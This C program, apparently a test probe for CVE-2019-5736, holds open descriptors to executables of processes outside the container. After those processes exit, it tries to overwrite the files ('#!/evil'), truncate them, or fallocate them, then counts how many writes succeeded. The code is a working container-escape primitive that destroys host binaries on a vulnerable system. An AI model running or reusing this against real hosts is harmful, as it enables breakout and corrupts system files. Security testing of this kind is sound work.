/* thief.c: collect what foreign processes run from, and write to it once they are gone.

   CVE-2019-5736.  Looks through /proc until standard input ends, and keeps a descriptor of every
   executable that is not its own; says "caught" at the first.  Then, when nobody runs from those
   files any more (meanwhile the kernel would say ETXTBSY), tries to change them in every way, and
   tells how many there were and how many took the change.  */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum
{
  OWN = 2, /* the first of them are the container's own */
  MOST = 256,
};

static int handles[MOST];
static struct stat known[MOST];
static int count;

static bool
is_known (const struct stat *st)
{
  for (int i = 0; i < count; i++)
    if (known[i].st_ino == st->st_ino && known[i].st_dev == st->st_dev)
      return true;
  return false;
}

static void
take (const char *path, int how)
{
  struct stat st;
  int fd = open (path, how | O_CLOEXEC);

  if (fd < 0)
    return;
  if (fstat (fd, &st) < 0 || is_known (&st) || count == MOST)
    {
      close (fd);
      return;
    }
  known[count] = st;
  handles[count++] = fd;
}

static void
look (void)
{
  DIR *proc = opendir ("/proc");
  struct dirent *entry;
  char path[64];

  while (proc != NULL && (entry = readdir (proc)) != NULL)
    if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
      {
        snprintf (path, sizeof (path), "/proc/%.16s/exe", entry->d_name);
        take (path, count % 2 == 0 ? O_RDONLY : O_PATH);
      }
  if (proc != NULL)
    closedir (proc);
}

/* Whether any way of writing works.  */
static bool
is_written (int handle)
{
  static const int ways[] = { O_RDWR, O_WRONLY, O_RDWR | O_TRUNC, O_RDWR | O_APPEND };
  bool written = false;
  char path[64];

  snprintf (path, sizeof (path), "/proc/self/fd/%d", handle);
  for (size_t i = 0; i < sizeof (ways) / sizeof (*ways); i++)
    {
      int fd = open (path, ways[i] | O_CLOEXEC);

      if (fd < 0)
        continue;
      written |= write (fd, "#!/evil", 7) > 0 || ftruncate (fd, 1) == 0 || fallocate (fd, 0, 0, 1 << 24) == 0;
      close (fd);
    }
  return written;
}

int
main (void)
{
  struct pollfd input = { .fd = 0, .events = POLLIN };
  int written = 0;

  take ("/proc/self/exe", O_RDONLY);
  take ("/bin/busybox", O_RDONLY);
  while (poll (&input, 1, 0) == 0)
    {
      int before = count;

      look ();
      if (before == OWN && count > OWN)
        {
          puts ("caught");
          fflush (stdout);
        }
    }
  sleep (1); /* for the last of them to end */
  for (int i = OWN; i < count; i++)
    written += is_written (handles[i]);
  printf ("%d handles, %d written\n", count - OWN, written);
  return 0;
}
